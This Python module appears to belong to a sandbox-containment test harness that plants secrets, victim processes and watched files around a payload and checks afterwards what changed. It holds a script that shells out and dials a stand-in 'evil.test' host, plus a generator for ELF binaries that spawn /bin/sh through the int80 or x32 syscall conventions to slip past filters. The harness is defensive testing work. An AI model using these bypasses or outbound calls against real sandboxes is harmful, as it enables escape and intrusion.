"""What stands around one execution because its technique names it in `before`, and whether it changed.

Each piece is put up before the payload starts, tells the payload where it is (`kit.facts`), and is
looked at afterwards from outside the worker: a file that was written, a secret that was said, a
process that ended. What is found is a `state` for the witnesses.

Three kinds of effect lie within the worker's own processes, where nobody outside can look: a system
call that gave what it promises, memory of another process that was read, a connection from the room
to itself. For these the payload says `effect` (`kit.effect`) after it has used what it got.
"""

from __future__ import annotations

import os
import secrets
import socket
import stat
import struct
import subprocess
import time
from collections.abc import Callable, Iterable
from contextlib import suppress
from pathlib import Path
from typing import Any

from stockade.errors import HostError
from stockade.ledger.shelf import RunReader, list_runs
from stockade.prove import keys
from stockade.prove.stages import STOCKADE

Seen = dict[str, Any]
SINK = ("93.184.216.66", 9000)  # evil.test: what an inherited connection leads to
ENDLESS_BYTES = 12 << 20
NEIGHBOUR_PORT = 8899
NEIGHBOUR_POLICY = "version: 1\nrules:\n  - allow: allowed.test\n"
# A worker that serves on every address that its network has, and tells when somebody says something.
NEIGHBOUR = f"""
import socket
server = socket.create_server(("::", {NEIGHBOUR_PORT}), family=socket.AF_INET6, dualstack_ipv6=True)
print("ready", flush=True)
while True:
    line, _ = server.accept()
    with line:
        line.settimeout(2)
        try:
            if line.recv(200):
                print("reached", flush=True)
                line.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 9\\r\\n\\r\\nneighbour")
        except OSError:
            pass
"""
LEFT_ALONE = """
import socket, subprocess, time
try:
    subprocess.run(["/bin/sh", "-c", "$script"])
except OSError:
    pass
try:
    stream = socket.create_connection(("93.184.216.66", 80), 3)
    stream.sendall(b"GET /left-alone HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
except OSError:
    pass
time.sleep(20)
"""


class Scenery:
    """The pieces of one execution.

    Attributes:
        facts: Where they are.
        descriptors: Open files that whoever starts the payload has by accident.
        policy: Where the policy lies; None: where it always does.
    """

    def __init__(
        self,
        folder: Path,
        workspace: Path,
        shelf: Path,
        word: str,
        is_open: bool,
        layers_off: tuple[str, ...] = (),
    ) -> None:
        self.facts: dict[str, Any] = {}
        self.descriptors: list[int] = []
        self.policy: Path | None = None
        self._folder, self._workspace, self._word, self._is_open = folder, workspace, word, is_open
        self._shelf, self._layers_off = shelf, layers_off
        self._checks: list[Callable[[list[Seen]], str | None]] = [self._find_set_uid, self._find_endless]
        self._ends: list[Callable[[], None]] = []

    def put_up(self, names: Iterable[str]) -> None:
        for name in names:
            PIECES[name](self)

    def look(self, said: list[Seen]) -> list[Seen]:
        """States that are not as they were, and effects that the payload vouches for."""
        found = [state for check in self._checks if (state := check(said)) is not None]
        found += [str(one["effect"]) for one in said if "effect" in one]
        return [{"what": "state", "name": name} for name in found]

    def take_down(self) -> None:
        for end in self._ends:
            with suppress(OSError):
                end()

    # --- pieces -------------------------------------------------------------------------------

    def victim(self) -> None:
        """A process of the host; state `victim-ended`."""
        process = subprocess.Popen(["sleep", "60"], stdin=subprocess.DEVNULL)
        self.facts["victim"] = process.pid
        self._checks.append(lambda _: None if process.poll() is None else "victim-ended")
        self._ends.append(process.kill)

    def neighbour(self) -> None:
        """A second worker of this host, held as the first one is, that listens; `neighbour-reached`."""
        home = self._folder / "neighbour"
        home.mkdir()
        policy = self._folder / "neighbour.yaml"
        policy.write_text(NEIGHBOUR_POLICY)
        command = ["/usr/bin/python3", "-c", NEIGHBOUR]
        if not self._is_open:
            off = [f"--without-layer={name}" for name in self._layers_off]
            ledger = str(self._folder / "neighbour-ledger")
            command = [*STOCKADE, "run", "-q", "-p", str(policy), "--ledger", ledger, *off, "--", *command]
        process = subprocess.Popen(command, cwd=home, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
        self._ends.append(lambda: _end_politely(process))
        assert process.stdout is not None
        if process.stdout.readline() != b"ready\n":
            raise HostError("no-neighbour", "the neighbour's worker did not start")
        os.set_blocking(process.stdout.fileno(), False)
        self.facts["neighbour_port"] = NEIGHBOUR_PORT
        heard = process.stdout
        self._checks.append(lambda _: "neighbour-reached" if heard.read() else None)

    def secret(self) -> None:
        """A file of the host that every user may read, outside of what the worker sees; `secret-read`."""
        self._put_secret(self._folder / "secret.txt")

    def answers(self) -> None:
        """The same inside the workspace: `answers/key.txt`."""
        (self._workspace / "answers").mkdir()
        self._put_secret(self._workspace / "answers" / "key.txt")

    def _put_secret(self, path: Path) -> None:
        text = f"secret-{secrets.token_hex(8)}"
        path.write_text(text + "\n")
        path.chmod(0o644)
        self.facts["secret"] = str(path)
        self._checks.append(lambda said: "secret-read" if text in str(said) else None)

    def shared(self) -> None:
        """A folder of the host that the policy lets be read (`$shared`); state `fifo-read`."""
        shared = self._folder / "shared"
        shared.mkdir()
        self.facts["shared"] = str(shared)
        read = self._folder / "fifo.txt"
        self._checks.append(
            lambda _: "fifo-read" if read.exists() and self._word in read.read_text() else None
        )

    def git(self) -> None:
        """A repository in the workspace, as the operator's own tools find it."""
        git = ("git", "-C", str(self._workspace))
        subprocess.run([*git, "init", "-q"], check=True, capture_output=True)
        self._open_to_worker(self._workspace / ".git")

    def settings(self) -> None:
        """Settings of an editor and an agent in the workspace; state `settings-changed`."""
        for name in (".claude/settings.json", ".vscode/tasks.json"):
            path = self._workspace / name
            path.parent.mkdir()
            path.write_text("{}\n")
            self._open_to_worker(path.parent)
            self._watch(path, "settings-changed")

    def precious(self) -> None:
        """A file of the host outside; state `file-overwritten`. `$report` is a place in the workspace."""
        path = self._folder / "precious.txt"
        path.write_text("precious\n")
        self.facts |= {"precious": str(path), "report": str(self._workspace / "report.json")}
        self._watch(path, "file-overwritten")

    def policy_inside(self) -> None:
        """The policy lies in the workspace, which the worker may write; state `policy-changed`."""
        self.policy = self._workspace / "policy.yaml"
        self._checks.append(self._is_policy_changed)

    def _is_policy_changed(self, _said: list[Seen]) -> str | None:
        assert self.policy is not None
        whole = self.policy.is_file() and f"planted-{self._word}" not in self.policy.read_text()
        return None if whole else "policy-changed"

    def ledger(self) -> None:
        """In the open a ledger to reach for: like a run's, and nobody's evidence."""
        if self._is_open:
            self._shelf = self._folder / "ledger"
            (self._shelf / "some-run").mkdir(parents=True)
            (self._shelf / "some-run" / "records").write_text('{"kind":"run.opened"}\n')
            self.facts["ledger"] = str(self._shelf)
        self._checks.append(lambda _: self._is_ledger_changed())

    def _is_ledger_changed(self) -> str | None:
        """The planted text stands in one of its files, or a file is at the place to which it was moved."""
        marks = f"planted-{self._word}"
        files = [path for path in self._shelf.rglob("*") if path.is_file()]
        is_marked = any(marks in path.name or marks.encode() in path.read_bytes() for path in files)
        return "ledger-changed" if is_marked or not files else None

    def other_run(self) -> None:
        """Another run of the same user, moved on to its next phase by whoever reaches it; `run-changed`."""
        shelf, work = self._folder / "other", self._folder / "other-work"
        work.mkdir()
        command = [*STOCKADE, "run", "-q", "--ledger", str(shelf), "--", "sleep", "30"]
        run = subprocess.Popen(command, cwd=work, stdin=subprocess.DEVNULL)
        self._ends.append(lambda: _end_politely(run))
        deadline = time.monotonic() + 5
        while not (names := list_runs(shelf) if shelf.is_dir() else []):
            if time.monotonic() > deadline or run.poll() is not None:
                raise HostError("scene-not-ready", "the other run did not start")
            time.sleep(0.01)
        self.facts["other_run"] = names[-1]
        self._checks.append(
            lambda _: "run-changed" if _has_kind(shelf / names[-1], "phase.changed") else None
        )

    def left_alone(self) -> None:
        """A program that does whatever nobody forbids: leaves the word by a shell, dials, and stays."""
        path = self._workspace / "left_alone.py"
        script = f"echo {self._word} >> {self._workspace}/witness"
        path.write_text(LEFT_ALONE.replace("$script", script))
        self.facts |= {"left_alone": str(path), "token": f"token-{self._word}"}

    def keyring(self) -> None:
        """A session keyring that whoever this lane starts inherits; state `key-left`."""
        keys.join_new_session()
        self._checks.append(lambda _: "key-left" if keys.has_key(f"stockade-{self._word}") else None)

    def connection(self) -> None:
        """A connection of the starter's that its child inherits, as a careless caller leaves one open."""
        stream = socket.create_connection(SINK, 3)
        os.set_inheritable(stream.fileno(), True)
        self.facts["inherited"] = stream.fileno()
        self.descriptors.append(stream.fileno())
        self._ends.append(stream.close)

    def listed_tool(self) -> None:
        """`tool` in the workspace, a program that the policy may list."""
        self._put_program("tool", Path("/usr/bin/true").read_bytes())

    def foreign_program(self) -> None:
        """`int80` and `x32` in the workspace: they start the shell by another calling convention."""
        for convention in ("int80", "x32"):
            script = f"echo {self._word} >> {self._workspace}/witness"
            self._put_program(convention, foreign_program(convention, script))

    def _put_program(self, name: str, content: bytes) -> None:
        path = self._workspace / name
        path.write_bytes(content)
        path.chmod(0o777)

    # --- what is always looked at --------------------------------------------------------------

    def _find_set_uid(self, _said: list[Seen]) -> str | None:
        bits = stat.S_ISUID | stat.S_ISGID
        files = [path for path in self._workspace.iterdir() if path.is_file() and not path.is_symlink()]
        return "set-id-file" if any(path.stat().st_mode & bits for path in files) else None

    def _find_endless(self, _said: list[Seen]) -> str | None:
        sizes = [path.lstat().st_size for path in self._workspace.iterdir()]
        return "endless-file" if max(sizes) >= ENDLESS_BYTES else None

    def _watch(self, path: Path, state: str) -> None:
        before = path.read_bytes()
        self._checks.append(lambda _: None if path.is_file() and path.read_bytes() == before else state)

    def _open_to_worker(self, folder: Path) -> None:
        """What root made the worker may write as well, as far as owners and modes go."""
        if os.getuid() == 0:
            subprocess.run(["chmod", "-R", "a+rwX", str(folder)], check=True)


def _end_politely(process: subprocess.Popen[bytes]) -> None:
    """By request first, so that a run can remove what it made."""
    process.terminate()
    try:
        process.wait(3)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()
    if process.stdout is not None:
        process.stdout.close()


def _has_kind(run: Path, kind: str) -> bool:
    return any(record["kind"] == kind for record in RunReader(run).read())


PIECES: dict[str, Callable[[Scenery], None]] = {
    "victim": Scenery.victim,
    "neighbour": Scenery.neighbour,
    "secret": Scenery.secret,
    "answers": Scenery.answers,
    "shared": Scenery.shared,
    "git": Scenery.git,
    "settings": Scenery.settings,
    "precious": Scenery.precious,
    "policy-inside": Scenery.policy_inside,
    "ledger": Scenery.ledger,
    "other-run": Scenery.other_run,
    "left-alone": Scenery.left_alone,
    "keyring": Scenery.keyring,
    "connection": Scenery.connection,
    "listed-tool": Scenery.listed_tool,
    "foreign-program": Scenery.foreign_program,
}


# --- a program that calls the kernel by another convention ------------------------------------------

_BASE, _HEADERS = 0x400000, 64 + 56
_EXIT_WITH_ERRNO = bytes.fromhex("89c7f7dfb83c0000000f05")  # mov edi,eax; neg edi; mov eax,60; syscall


def foreign_program(convention: str, script: str) -> bytes:
    """A static ELF executable (elf(5), x86-64) that starts `/bin/sh -c SCRIPT`.

    It lies below 4 GB, so its pointers are good for a 32-bit call. If the call comes back it ends with
    the errno as its code.

    Args:
        convention: `x32` (number 520 with its bit) or `int80` (the 32-bit execve, number 11).
    """
    texts = [b"/bin/sh\0", b"-c\0", script.encode() + b"\0"]
    texts_at = _BASE + _HEADERS + 64
    places = [texts_at + sum(map(len, texts[:number])) for number in range(3)]
    vector_at = texts_at + sum(map(len, texts))
    if convention == "int80":  # mov eax,11; mov ebx,path; mov ecx,argv; xor edx,edx; int 0x80
        code = b"\xb8" + _word(11) + b"\xbb" + _word(texts_at) + b"\xb9" + _word(vector_at)
        code += bytes.fromhex("31d2cd80")
    else:  # mov eax,number; mov edi,path; mov esi,argv; xor edx,edx; syscall
        code = b"\xb8" + _word(0x40000000 | 520) + b"\xbf" + _word(texts_at) + b"\xbe" + _word(vector_at)
        code += bytes.fromhex("31d20f05")
    body = (code + _EXIT_WITH_ERRNO).ljust(64, b"\x90") + b"".join(texts) + struct.pack("<4I", *places, 0)
    size = _HEADERS + len(body)
    head = b"\x7fELF\x02\x01\x01" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, _BASE + _HEADERS, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    head += struct.pack("<IIQQQQQQ", 1, 5, 0, _BASE, _BASE, size, size, 0x1000)
    return head + body


def _word(value: int) -> bytes:
    return struct.pack("<I", value)
